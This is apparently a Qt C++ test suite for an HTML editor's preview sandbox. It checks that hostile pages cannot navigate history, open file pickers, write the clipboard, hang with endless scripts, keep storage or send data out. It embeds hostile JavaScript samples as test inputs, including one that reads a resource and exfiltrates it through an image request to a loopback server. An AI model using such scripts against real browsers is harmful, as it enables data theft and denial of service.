        QStringLiteral("<title>t</title><script>onload = function () { setTimeout(function () {"
                       " history.go(-1); history.go(-2); history.back(); history.forward(); }, 0); };</script>");
    const QString path = writePage(QStringLiteral("hostile.html"), hostile);
    view.showFile(path, hostile);
    QVERIFY(waitShown(&view, LocalAddress::url(path)));
    settle();
    QCOMPARE(view.url(), LocalAddress::url(path));
    QVERIFY(!view.history()->canGoBack());
    QCOMPARE(server.requests().size(), 1);
}

void tst_PreviewSafety::clickTouchesNoFileNorClipboard_data()
{
    QTest::addColumn<QString>("onClick");

    QTest::newRow("upload field") << QStringLiteral("document.getElementById('f').click();");
    QTest::newRow("folder upload") << QStringLiteral(
        "var f = document.getElementById('f'); f.webkitdirectory = true; f.click();");
    QTest::newRow("open picker") << QStringLiteral("window.showOpenFilePicker().then(function () { done('opened'); });");
    QTest::newRow("save picker") << QStringLiteral(
        "window.showSaveFilePicker().then(function (h) { done('saving'); return h.createWritable(); })"
        ".then(function (w) { return w.close(); });");
    QTest::newRow("folder picker") << QStringLiteral("window.showDirectoryPicker().then(function () { done('opened'); });");
    QTest::newRow("copy command") << QStringLiteral(
        "var t = document.createElement('textarea'); t.value = 'PAGE'; document.body.appendChild(t);"
        "t.select(); document.execCommand('copy');");
}

// A click lets a page ask for files or write to the clipboard: no dialog comes up, no file is
// touched and the clipboard keeps what it held.
void tst_PreviewSafety::clickTouchesNoFileNorClipboard()
{
    QFETCH(QString, onClick);

    const QString html =
        QStringLiteral("<title>t</title><input type='file' id='f' style='display:none'>"
                       "<p id='p' style='position:absolute; left:0; top:0; width:300px; height:60px'>text</p>"
                       "<script>function done(r) { document.title = r; }"
                       "document.getElementById('p').onclick = function () { try { %1 } catch (e) {} };</script>")
            .arg(onClick);
    const QString path = writePage(QStringLiteral("hostile.html"), html);
    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    QVERIFY(QTest::qWaitForWindowExposed(&view));
    const QWidgetList windows = QApplication::topLevelWidgets();
    // A dialog that comes up anyway is noted and closed, so the test goes on.
    QStringList dialogs;
    QTimer watch;
    QObject::connect(&watch, &QTimer::timeout, [&] {
        for (QWidget *widget : QApplication::topLevelWidgets()) {
            if (!windows.contains(widget) && widget->isVisible()) {
                dialogs << QString::fromLatin1(widget->metaObject()->className());
                widget->close();
            }
        }
    });
    watch.start(50);
    QApplication::clipboard()->setText(QStringLiteral("before"));
    view.showFile(path, html);
    QVERIFY(waitShown(&view, LocalAddress::url(path)));
    QTRY_VERIFY(view.focusProxy());
    QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('p').offsetWidth")).toInt(), 300, timeout);
    QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
    settle();
    QCOMPARE(dialogs, QStringList());
    QCOMPARE(view.title(), QStringLiteral("t"));
    QCOMPARE(QApplication::clipboard()->text(), QStringLiteral("before"));
}

void tst_PreviewSafety::endlessScriptsGiveWayToTheNextPage_data()
{
    QTest::addColumn<QString>("script");

    QTest::newRow("endless loop while loading") << QStringLiteral("for (;;) {}");
    QTest::newRow("endless loop once loaded")
        << QStringLiteral("onload = function () { setTimeout(function () { for (;;) {} }, 0); };");
    QTest::newRow("alert loop") << QStringLiteral("for (;;) alert('again');");
    QTest::newRow("confirm loop") << QStringLiteral("while (confirm('again')) {}");
    QTest::newRow("prompt loop") << QStringLiteral("for (;;) prompt('again');");
}

// A page whose scripts never end does not keep the next text from showing.
void tst_PreviewSafety::endlessScriptsGiveWayToTheNextPage()
{
    QFETCH(QString, script);

    const QString endless = QStringLiteral("<title>endless</title><script>%1</script>").arg(script);
    const QString fixed = QStringLiteral("<title>fixed</title><p>fixed</p>");
    const QString path = writePage(QStringLiteral("endless.html"), endless);
    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    QSignalSpy tornDown(&view, &PreviewBrowser::pageTornDown);
    view.showFile(path, endless);
    QTRY_VERIFY_WITH_TIMEOUT(!tornDown.isEmpty() || (view.url() == LocalAddress::url(path) && !view.page()->isLoading()),
                             timeout);

    writePage(QStringLiteral("endless.html"), fixed);
    view.showFile(path, fixed);
    QTRY_COMPARE_WITH_TIMEOUT(view.title(), QStringLiteral("fixed"), 3 * timeout);
    QCOMPARE(bodyText(&view), QStringLiteral("fixed"));
}

void tst_PreviewSafety::documentsShareNoStorage_data()
{
    QTest::addColumn<bool>("anotherDocument");
    QTest::addColumn<QString>("seen");

    // Only the window's name is kept for a page of an origin of its own, and it shows the reader
    // finds what is kept.
    QTest::newRow("same document, refreshed") << false << QStringLiteral("name");
    QTest::newRow("another document") << true << QStringLiteral("");
}

namespace {

// A page that keeps a mark in every store a page has, and one that lists the marks it finds.
// A local page is an origin of its own, for which the engine keeps no storage (using it throws):
// each store is tried, and what works must not outlive the document.
const QString storageWriter =
    QStringLiteral("<title>t</title><script>try { localStorage.setItem('mark', 'local'); } catch (e) {}"
                   "try { sessionStorage.setItem('mark', 'session'); } catch (e) {}"
                   "window.name = 'name'; function kept() { document.title = 'kept'; }"
                   "try { var r = indexedDB.open('marks', 1);"
                   "  r.onupgradeneeded = function () { r.result.createObjectStore('s').put('indexed', 'mark'); };"
                   "  r.onsuccess = kept; r.onerror = kept; } catch (e) { kept(); }</script>");
const QString storageReader = QStringLiteral(
    "<title>t</title><script>var seen = [];"
    "try { if (localStorage.getItem('mark')) seen.push('local'); } catch (e) {}"
    "try { if (sessionStorage.getItem('mark')) seen.push('session'); } catch (e) {}"
    "function report() { if (window.name) seen.push('name'); document.title = 'seen:' + seen.join(); }"
    "try { var r = indexedDB.open('marks', 1); r.onupgradeneeded = function () { r.result.createObjectStore('s'); };"
    "  r.onerror = report; r.onsuccess = function () { var g = r.result.transaction('s').objectStore('s').get('mark');"
    "    g.onsuccess = function () { if (g.result) seen.push('indexed'); report(); }; }; } catch (e) { report(); }</script>");

} // namespace

void tst_PreviewSafety::documentsShareNoStorage()
{
    QFETCH(bool, anotherDocument);
    QFETCH(QString, seen);

    const QString path = writePage(QStringLiteral("storage.html"), storageWriter);
    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    view.showFile(path, storageWriter);
    QTRY_COMPARE_WITH_TIMEOUT(view.title(), QStringLiteral("kept"), timeout);
    if (anotherDocument)
        view.startDocument();
    writePage(QStringLiteral("storage.html"), storageReader);
    view.showFile(path, storageReader);
    QTRY_VERIFY_WITH_TIMEOUT(view.title().startsWith(QLatin1String("seen:")), timeout);
    QCOMPARE(view.title(), QStringLiteral("seen:") + seen);
}

// New and Open give the previews a fresh start.
void tst_PreviewSafety::newDocumentStartsWithFreshStorage()
{
    ScriptedHost host;
    frmMainWin w(host);
    w.Form_Load();
    w.show();
    w.r1().setText(storageWriter);
    w.RefreshQuickPreview();
    PreviewBrowser *qprevbr = showPreviewTab(w);
    QVERIFY(qprevbr);
    QTRY_COMPARE_WITH_TIMEOUT(qprevbr->title(), QStringLiteral("kept"), timeout);

    w.ResetDocument();
    w.r1().setText(storageReader);
    w.RefreshQuickPreview();
    QTRY_VERIFY_WITH_TIMEOUT(qprevbr->title().startsWith(QLatin1String("seen:")), timeout);
    QCOMPARE(qprevbr->title(), QStringLiteral("seen:"));
}

void tst_PreviewSafety::bothPreviewsAreGuarded()
{
    LoopbackServer server;
    QVERIFY(server.isListening());
    const QString html =
        hostilePage(QStringLiteral("var r = ''; try { var x = new XMLHttpRequest(); x.open('GET', S, false); x.send();"
                                   "r = x.responseText; } catch (e) {}"
                                   "new Image().src = H + '/img?d=' + encodeURIComponent(r); done(r);"))
            .replace(QLatin1String("PORT"), QString::number(server.port()));
    ScriptedHost host;
    frmMainWin w(host);
    w.Form_Load();
    w.show();
    w.r1().setText(html);
    w.RefreshQuickPreview();
    w.mnuPreview_Click();

    PreviewBrowser *qprevbr = showPreviewTab(w);
    auto *form = w.findChild<Form2 *>();
    QVERIFY(qprevbr);
    QVERIFY(form);
    for (PreviewBrowser *view : {qprevbr, browserOf(form->w1())}) {
        QTRY_VERIFY_WITH_TIMEOUT(view->title().startsWith(QLatin1String("done:")), timeout);
        QCOMPARE(view->title(), QStringLiteral("done:"));
    }
    settle();
    QCOMPARE(server.connections(), 0);
}

namespace {

QByteArray pngBytes(QSize size)
{
    QImage image(size, QImage::Format_RGB32);
    image.fill(Qt::blue);
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "PNG");
    return bytes;
}

int naturalWidth(QWebEngineView *view, const QString &id)
{
    return evaluate(view, QStringLiteral("document.getElementById('%1').naturalWidth").arg(id)).toInt();
}

} // namespace

// A page's remote image stays blocked, with the bar saying so, until the user asks for it; then
// it loads through the proxy, and once blocked again it does not load on the next refresh. While
// remote content is on, the page gets no local file outside its folder.
void tst_PreviewSafety::remoteContentLoadsOnRequest()
{
    LoopbackServer server;
    QVERIFY(server.isListening());
    const QSize remoteSize(41, 17);
    server.serve(QStringLiteral("/pic.png"), "image/png", pngBytes(remoteSize));
    const QString html = QStringLiteral("<title>t</title><img id='remote' src='%1'><img id='outside' src='%2'>")
                             .arg(server.address(QStringLiteral("/pic.png")), m_dir.filePath(QStringLiteral("pixel.png")));
    ScriptedHost host;
    frmMainWin w(host);
    w.Form_Load();
    w.show();
    w.r1().setText(html);
    PreviewBrowser *qprevbr = showPreviewTab(w);
    w.mnuPreview_Click();
    auto *form = w.findChild<Form2 *>();
    QVERIFY(qprevbr);
    QVERIFY(form);
    PreviewBrowser *window = browserOf(form->w1());
    QVERIFY(window);
    auto *tabBar = w.findChild<QWidget *>(QStringLiteral("qprevbr"))->findChild<RemoteContentBar *>();
    auto *windowBar = form->w1()->findChild<RemoteContentBar *>();
    QVERIFY(tabBar);
    QVERIFY(windowBar);

    for (PreviewBrowser *view : {qprevbr, window}) {
        QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(view, QStringLiteral("outside")), pixelSize.width(), timeout);
        QCOMPARE(naturalWidth(view, QStringLiteral("remote")), 0);
    }
    QTRY_VERIFY_WITH_TIMEOUT(tabBar->isVisible() && windowBar->isVisible(), timeout);
    QCOMPARE(tabBar->button()->text(), QStringLiteral("Load remote content"));
    // The bar takes its line above the page.
    QCOMPARE(window->y(), windowBar->geometry().bottom() + 1);
    settle();
    QCOMPARE(server.requests(), QStringList());

    QTest::mouseClick(tabBar->button(), Qt::LeftButton);
    QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(qprevbr, QStringLiteral("remote")), remoteSize.width(), timeout);
    QCOMPARE(server.requests(), QStringList{QStringLiteral("GET /pic.png HTTP/1.1")});
    QCOMPARE(tabBar->button()->text(), QStringLiteral("Block remote content"));
    QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(qprevbr, QStringLiteral("outside")), 0, timeout);
    // The choice is the document's: the window follows it on its next refresh.
    QCOMPARE(naturalWidth(window, QStringLiteral("remote")), 0);
    QMetaObject::invokeMethod(windowBar, "choiceChanged");
    QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(window, QStringLiteral("remote")), remoteSize.width(), timeout);

    QTest::mouseClick(tabBar->button(), Qt::LeftButton);
    QCOMPARE(tabBar->button()->text(), QStringLiteral("Load remote content"));
    const qsizetype heard = server.requests().size();
    QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(qprevbr, QStringLiteral("outside")), pixelSize.width(), timeout);
    QCOMPARE(naturalWidth(qprevbr, QStringLiteral("remote")), 0);
    w.RefreshQuickPreview();
    QTRY_COMPARE_WITH_TIMEOUT(naturalWidth(qprevbr, QStringLiteral("outside")), pixelSize.width(), timeout);
    settle();
    QCOMPARE(naturalWidth(qprevbr, QStringLiteral("remote")), 0);
    QCOMPARE(server.requests().size(), heard);
    QVERIFY(tabBar->isVisible());
}

// Remembered per file; an untitled document's choice lasts while it is open.
void tst_PreviewSafety::remoteContentChoiceIsTheDocuments()
{
    const QString page = m_dir.filePath(QStringLiteral("page.html"));
    QVERIFY(!RemoteContentChoice::isAllowed(page));
    RemoteContentChoice::setAllowed(page, true);
    QVERIFY(RemoteContentChoice::isAllowed(page));
    QVERIFY(!RemoteContentChoice::isAllowed(m_dir.filePath(QStringLiteral("other.html"))));
    QVERIFY(!RemoteContentChoice::isAllowed(QString()));
    RemoteContentChoice::startDocument();
    QVERIFY(RemoteContentChoice::isAllowed(page));
    RemoteContentChoice::setAllowed(page, false);
    QVERIFY(!RemoteContentChoice::isAllowed(page));

    RemoteContentChoice::setAllowed(QString(), true);
    QVERIFY(RemoteContentChoice::isAllowed(QString()));
    RemoteContentChoice::startDocument();
    QVERIFY(!RemoteContentChoice::isAllowed(QString()));
}

ZORVANE_TEST(tst_PreviewSafety)
#include "tst_PreviewSafety.moc"
